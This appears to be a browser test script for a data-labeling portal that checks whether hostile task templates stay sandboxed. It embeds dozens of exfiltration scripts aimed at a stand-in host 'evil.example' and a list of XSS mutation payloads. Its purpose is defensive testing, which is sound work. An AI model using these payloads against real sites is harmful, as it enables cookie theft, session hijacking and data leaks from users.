/* SPDX-FileCopyrightText: 2026 The Labelwright authors
 * SPDX-License-Identifier: GPL-3.0-or-later */

/* Hostile templates and instructions: their scripts may run in the task's own document, and reach nothing: not the
 * portal's origin, its cookie, its API, storage or page, nor any other server. */

import dgram from 'node:dgram';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { assert, atEnd, note, run } from './lw-tap.mjs';
import { CASES, launch } from './lw-browser.mjs';
import { cli, imagesOf, join, newFolder, Portal } from './lw-portal.mjs';

const HEAD = '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>';
/* A task's worth of time for scripts to try. */
const TIME = 120;

/* Everything outside: whatever the name, the connection is made to here. The browser's own services call its maker. */
const outside = [];
const OWN = /google|gstatic|gvt1|chrome/;
const sink = net.createServer((socket) => {
  let said = '';
  socket.on('error', () => {});
  socket.on('data', (data) => {
    said += data.toString('latin1');
    socket.destroy();
  });
  socket.on('close', () => OWN.test(said) || outside.push(said.slice(0, 200)));
});
await new Promise((resolve) => sink.listen(0, '127.0.0.1', resolve));
atEnd(() => sink.close());
let packets = 0;
const udp = dgram.createSocket('udp4', () => {
  packets += 1;
});
await new Promise((resolve) => udp.bind(0, '127.0.0.1', resolve));
atEnd(() => udp.close());

const EVIL = 'http://evil.example/';
/* Each tries one thing and says so when it worked: leak(what). */
const ATTEMPTS = [
  `leak(parent.document.title)`,
  `leak(top.location.href)`,
  `leak(parent.localStorage.length)`,
  `if (document.cookie) leak(document.cookie)`,
  `leak(localStorage.length)`,
  `leak(sessionStorage.length)`,
  `indexedDB.open('labelwright').onsuccess = (event) => leak('database')`,
  `leak(parent.frames[1].document.body.innerHTML)`,
  `leak(caches.keys().then(() => leak('caches')) && undefined)`,
  `fetch('/api/jobs', { credentials: 'include' }).then(() => leak('fetch'))`,
  `fetch('/api/me', { mode: 'no-cors' }).then(() => leak('no-cors'))`,
  `fetch('${EVIL}').then(() => leak('evil'))`,
  `const x = new XMLHttpRequest(); x.onload = () => leak('xhr'); x.open('GET', '/api/me'); x.send()`,
  `new WebSocket('ws://evil.example/').onopen = () => leak('socket')`,
  `new EventSource('${EVIL}')`,
  `navigator.sendBeacon('${EVIL}', 'x')`,
  `new Image().src = '${EVIL}?' + document.body.innerHTML.length`,
  `new Worker(URL.createObjectURL(new Blob(["fetch('${EVIL}')"])))`,
  `import('${EVIL}x.js')`,
  `location.href = '${EVIL}'`,
  `location.replace('/api/me')`,
  `top.location = '${EVIL}'`,
  `parent.location.hash = 'x'; leak('hash')`,
  `if (open('${EVIL}')) leak('window')`,
  `const f = document.createElement('form'); f.action = '${EVIL}'; document.body.append(f); f.submit()`,
  `const f = document.createElement('form'); f.action = '/api/sign-out'; f.method = 'post'; f.target = '_top';
   document.body.append(f); f.submit()`,
  `const a = document.createElement('a'); a.href = '${EVIL}'; a.ping = '${EVIL}'; document.body.append(a); a.click()`,
  `const a = document.createElement('a'); a.href = '${EVIL}'; a.target = '_top'; document.body.append(a); a.click()`,
  `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }] });
   c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer))`,
  `const i = document.createElement('iframe'); i.srcdoc = "<script>new RTCPeerConnection({ iceServers: [{ urls:
   'stun:127.0.0.1:${udp.address().port}' }] }).createDataChannel('x')<\\/script>"; document.body.append(i)`,
  `navigator.serviceWorker.register('/portal/page.js').then(() => leak('service worker'))`,
  `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${EVIL}x.css'; document.head.append(l)`,
  ...['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'icon', 'manifest'].map(
    (rel) =>
      `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = '${EVIL}';
       document.head.append(l)`
  ),
  `document.body.style.background = 'url(${EVIL}x.png)'`,
  `const s = document.createElement('style'); s.textContent = "@import '${EVIL}x.css'; @font-face { font-family: e; " +
   "src: url(${EVIL}f.woff) } body { font-family: e }"; document.head.append(s)`,
  ...['iframe', 'embed', 'object', 'video', 'audio', 'script', 'img'].map(
    (name) => `const e = document.createElement('${name}');
   e.src = e.data = '${EVIL}'; document.body.append(e)`
  ),
  `Notification.requestPermission().then((answer) => answer === 'granted' && leak('notification'))`,
  `navigator.clipboard.readText().then(() => leak('clipboard'))`,
  `navigator.geolocation.getCurrentPosition(() => leak('place'))`,
  `navigator.mediaDevices.getUserMedia({ video: true }).then(() => leak('camera'))`,
];

const scripts = ATTEMPTS.map(
  (code) => `<p>x</p><script>const leak = (what) => what !== undefined &&
  parent.postMessage({ leak: ${JSON.stringify(code)} }, '*'); try { ${code} } catch (error) {}</script>`
);

/* Markup in the spirit of the sanitizers' own tests: mutations, namespaces, odd closings, schemes. */
const MARKUP = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<img name=getElementById><img name=body>',
  '<form id=x><input name=attributes><input name=parentNode></form>',
  '<template><script>alert(1)</script></template>',
  '<x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<isindex action=j&Tab;a>',
  `<base href="${EVIL}"><img src=x><script src=y.js></script>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<iframe srcdoc="<img src=${EVIL}>"></iframe>`,
  `<object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<svg><use href="${EVIL}#x"/><image href="${EVIL}"/></svg>`,
  `<link rel=stylesheet href="${EVIL}"><style>@import "${EVIL}"</style>`,
  `<video poster="${EVIL}" src="${EVIL}"></video>`,
  `<body background="${EVIL}" onload=alert(1)>`,
  `<button formaction="${EVIL}" form=y autofocus></button><form id=y></form>`,
  `</crowd-form></body></html><script>alert(1)</script>`,
  `<crowd-form><crowd-button href="javascript:alert(1)">x</crowd-button>`,
  `<crowd-card image="javascript:alert(1)" heading="<img src=x onerror=alert(1)>"></crowd-card>`,
  `<crowd-image-classifier name="<img onerror=alert(1) src=x>" header="<script>alert(1)</script>" src="${EVIL}"
    categories="['<img src=x onerror=alert(1)>']"></crowd-image-classifier>`,
];

function payloads() {
  const list = [...scripts, ...MARKUP];
  for (const name of CASES ? ['own', 'owasp'] : []) {
    const { cases } = JSON.parse(fs.readFileSync(path.join(CASES, 'xss', `${name}.json`), 'utf8'));
    list.push(...cases.map((row) => row.payload));
  }
  return list.filter((text) => !/\{%|\{\{|\0/.test(text));
}

const list = payloads();
const folder = newFolder();
const workspace = path.join(folder, 'workspace');
imagesOf(path.join(folder, 'images'), list.length);
const branches = list.map((text, i) => `{% when '${String(i)}' %}{% raw %}${text}{% endraw %}`);
const number = "{{ task.input.taskObject | split: '/' | last | split: '.' | first | plus: 0 }}";
const template = path.join(folder, 'template.html');
fs.writeFileSync(
  template,
  `${HEAD}{% capture n %}${number}{% endcapture %}<crowd-form><short-instructions>Look.
  </short-instructions>{% case n %}${branches.join('')}{% endcase %}
  <crowd-input name="a" label="A"></crowd-input></crowd-form>`
);
cli(
  workspace,
  'job',
  'create',
  'hostile',
  '--dataset',
  path.join(folder, 'images'),
  '--labels',
  'a,b',
  '--template',
  template
);

const portal = await new Portal(workspace).start();
const browser = await launch({
  args: [`--host-resolver-rules=MAP * 127.0.0.1:${sink.address().port}, EXCLUDE 127.0.0.1`],
});
const context = await browser.newContext();
const page = await context.newPage();
const dialogs = [];
page.on('dialog', (dialog) => {
  dialogs.push(dialog.message());
  dialog.dismiss();
});
const calls = [];
context.on('request', (request) => {
  if (request.frame().parentFrame() && new URL(request.url()).pathname.startsWith('/api/'))
    calls.push(request);
});

const take = (count, holding) =>
  page.evaluate(
    async ([n, held]) => {
      const response = await fetch('/api/jobs/hostile/take', {
        method: 'POST',
        body: JSON.stringify({ count: n, holding: held }),
        headers: { 'Content-Type': 'application/json', 'X-Labelwright': '1' },
      });
      return (await response.json()).tasks;
    },
    [count, holding]
  );

/* The next documents come when these have an answer. */
const answer = (task, id) =>
  page.evaluate(
    ([task_, id_]) =>
      fetch('/api/answers', {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'X-Labelwright': '1' },
        body: JSON.stringify({
          answers: [
            {
              id: id_,
              task: task_,
              job: 'hostile',
              content: {},
              startedAt: new Date().toISOString(),
              seconds: 1,
            },
          ],
        }),
      }).then((response) => response.json()),
    [task, id]
  );

/* Shows a document as the worker's page does, and returns what it could do. */
const show = (address) =>
  page.evaluate(
    async ([src, time]) => {
      const leaks = [];
      const listener = (event) => event.data && event.data.leak && leaks.push(event.data.leak);
      window.addEventListener('message', listener);
      const frame = crowdElements.h('iframe', { sandbox: 'allow-scripts allow-forms', src });
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.onload = resolve;
        setTimeout(resolve, 2000);
      });
      await new Promise((resolve) => setTimeout(resolve, time));
      frame.remove();
      window.removeEventListener('message', listener);
      return leaks;
    },
    [address, TIME]
  );

let first = null;

async function nothingGetsOut() {
  await join(page, portal, 'Ada');
  await page.getByRole('heading', { name: 'Jobs' }).waitFor();
  const before = page.url();
  const cookies = JSON.stringify(await context.cookies());
  let shown = 0;
  for (;;) {
    const tasks = await take(8, []);
    if (!Array.isArray(tasks) || tasks.length === 0) break;
    first = first || tasks[0];
    for (const task of tasks) {
      shown += 1;
      assert.deepEqual(await show(task.frame), [], list[task.objectId]);
      assert.deepEqual(outside, [], `a connection to the outside: ${list[task.objectId]}`);
      assert.equal(packets, 0, `packets to the outside: ${list[task.objectId]}`);
      await answer(task.id, `0000000-${shown}`);
      assert.equal(page.url(), before, `the page went elsewhere: ${list[task.objectId]}`);
    }
  }
  note(`${shown} hostile documents of ${list.length}`);
  assert.equal(shown, list.length);
  assert.deepEqual(dialogs, []);
  assert.equal(JSON.stringify(await context.cookies()), cookies);
  assert.ok(
    await page.evaluate(async () => (await (await fetch('/api/me')).json()).worker !== null),
    'still signed in'
  );
  /* A document may navigate itself to this server: as a stranger. */
  for (const request of calls) assert.equal((await request.allHeaders()).cookie, undefined, request.url());
}

/* Somebody opens the address of a document by itself: it is as shut in as in the frame. */
async function openedByItself() {
  const other = await context.newPage();
  const response = await other.goto(portal.origin + first.frame);
  assert.match(response.headers()['content-security-policy'], /sandbox allow-scripts allow-forms(;|$)/);
  assert.equal(await other.evaluate(() => window.origin), 'null');
  await assert.rejects(other.evaluate(() => document.cookie));
}

/* A document that is not the one that is shown cannot answer, whatever it sends. */
async function forgedMessages() {
  await page.goto('about:blank');
  await page.goto(`${portal.origin}/#job=hostile`);
  await page.waitForSelector('iframe.current', { timeout: 15000 }).catch(() => {});
  const saved = await page.locator('.saved').textContent();
  await page.evaluate(() => window.postMessage({ lw: 1, type: 'submit', answer: { forged: true } }, '*'));
  const hidden = page
    .frames()
    .filter((frame) => frame.parentFrame() === page.mainFrame())
    .slice(1);
  for (const frame of hidden)
    await frame
      .evaluate(() => parent.postMessage({ lw: 1, type: 'submit', answer: { forged: true } }, '*'))
      .catch(() => {});
  await page.waitForFunction(() => new Promise((resolve) => setTimeout(() => resolve(true), 100)));
  assert.equal(await page.locator('.saved').textContent(), saved);
}

await run(
  ['nothing-gets-out', nothingGetsOut],
  ['opened-by-itself', openedByItself],
  ['forged-messages', forgedMessages]
);
